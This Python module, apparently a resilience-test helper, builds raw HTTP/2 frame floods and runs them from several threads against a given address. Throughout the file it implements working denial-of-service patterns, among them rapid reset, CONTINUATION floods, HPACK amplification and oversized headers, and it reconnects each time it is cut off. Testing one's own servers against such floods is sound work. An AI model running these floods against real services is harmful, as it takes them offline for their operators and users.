"""Floods of HTTP/2 against a worker API or a health service: what callers without a token send without a pause."""

import contextlib
import socket
import threading
import time

from .http2 import (
    END_HEADERS,
    END_STREAM,
    INITIAL_WINDOW_SIZE,
    PREFACE,
    Frame,
    data,
    field,
    frame,
    headers,
    integer,
    message,
    request_fields,
    reset,
    settings,
)

STREAMS = 200  # in a piece
PIECES = 5  # with numbers of their own; then the connection is a new one
TAKEN_S = 0.2  # a server that takes nothing for so long is left


def whole(path, stream, **more):
    return headers(stream, path, END_HEADERS | END_STREAM, **more)


def at_first(stream, what):
    """The connection begins with this."""
    return what if stream == 1 else b""


def endless_head(path, stream, more):
    return at_first(stream, frame(Frame.HEADERS, 0, 1, request_fields(path) + more))


# HPACK: a large field that is kept in the table, one byte that names it, and two new sizes of the table.
KEPT_FIELD = b"\x40\x01z" + integer(3900) + b"y" * 3900
LAST_KEPT = b"\xbe"
TABLE_SIZES = b"\x20\x3f\xe1\x1f"

# name -> what one stream is
FLOODS = {
    "rapid-reset": lambda path, stream: headers(stream, path) + reset(stream),
    "reset-after-data": lambda path, stream: headers(stream, path)
    + data(stream, message(b"ab", 5))
    + reset(stream),
    "calls": lambda path, stream: headers(stream, path) + data(stream, message(b""), END_STREAM),
    "never-finished": lambda path, stream: headers(stream, path),
    "slow-bodies": lambda path, stream: headers(stream, path) + data(stream, message(b"", 60)),
    "no-method": lambda path, stream: whole("/nothing", stream),
    "large-heads": lambda path, stream: whole(path, stream, x="y" * 7500),
    "pings": lambda path, stream: frame(Frame.PING, 0, 0, bytes(8)) * 20,
}
# Those of them that a test has no time for.
MORE = {
    "settings": lambda path, stream: settings((INITIAL_WINDOW_SIZE, 70000)) * 20,
    "windows": lambda path, stream: frame(Frame.WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 20,
    "priorities": lambda path, stream: frame(Frame.PRIORITY, 0, 1, bytes(5)) * 20,
    "unknown-frames": lambda path, stream: frame(0xEE, 0xFF, 1, bytes(100)) * 20,
    "goaways": lambda path, stream: frame(Frame.GOAWAY, 0, 0, bytes(8) + b"x" * 100) * 20,
    "continuations": lambda path, stream: frame(Frame.HEADERS, 0, 1, request_fields(path))
    + frame(Frame.CONTINUATION, 0, 1, field("a", "b" * 100) * 100) * 20,
    "many-heads": lambda path, stream: frame(
        Frame.HEADERS,
        END_HEADERS | END_STREAM,
        stream,
        request_fields(path) + b"".join(field(f"k{number}", "v") for number in range(150)),
    ),
    "churn": lambda path, stream: b"",
    "settings-and-back": lambda path, stream: (
        settings((INITIAL_WINDOW_SIZE, 0)) + settings((INITIAL_WINDOW_SIZE, 2**31 - 1))
    )
    * 10,
    "empty-data": lambda path, stream: at_first(stream, headers(1, path)) + data(1, b"") * 20,
    "data-of-no-call": lambda path, stream: data(3, b"a") * 20,
    "empty-continuations": lambda path, stream: endless_head(path, stream, b"")
    + frame(Frame.CONTINUATION, 0, 1, b"") * 20,
    "indexed-continuations": lambda path, stream: endless_head(path, stream, KEPT_FIELD)
    + frame(Frame.CONTINUATION, 0, 1, LAST_KEPT * 16000),
    "table-sizes": lambda path, stream: frame(
        Frame.HEADERS, END_HEADERS | END_STREAM, stream, TABLE_SIZES * 50 + request_fields(path)
    ),
    "endless-integers": lambda path, stream: frame(
        Frame.HEADERS, 0, stream, b"\x00\x7f" + b"\x80" * 16000
    ),
    "too-large-heads": lambda path, stream: whole(path, stream, x="y" * 12000),
}


def flood_for(address, path, make, end):
    """Streams without a pause until then (time.monotonic()), on one connection after the other when
    they are cut."""
    host, port = address.rsplit(":", 1)
    count = 2 * STREAMS
    pieces = [
        b"".join(make(path, first + number) for number in range(0, count, 2))
        for first in range(1, PIECES * count, count)
    ]
    while time.monotonic() < end:
        with contextlib.suppress(OSError), socket.create_connection((host, int(port)), 5) as peer:
            peer.settimeout(TAKEN_S)
            peer.sendall(PREFACE + settings() + settings(ack=True))
            for piece in pieces:
                if time.monotonic() > end:
                    break
                peer.sendall(piece)


def flooding(address, path, make, peers, seconds):
    """So many peers flood it meanwhile."""
    end = time.monotonic() + seconds
    return attacking(lambda: flood_for(address, path, make, end), peers)


@contextlib.contextmanager
def attacking(attack, peers):
    """So many threads of this run meanwhile; each ends by itself."""
    floods = [threading.Thread(target=attack) for _ in range(peers)]
    for flood in floods:
        flood.start()
    try:
        yield
    finally:
        for flood in floods:
            flood.join()
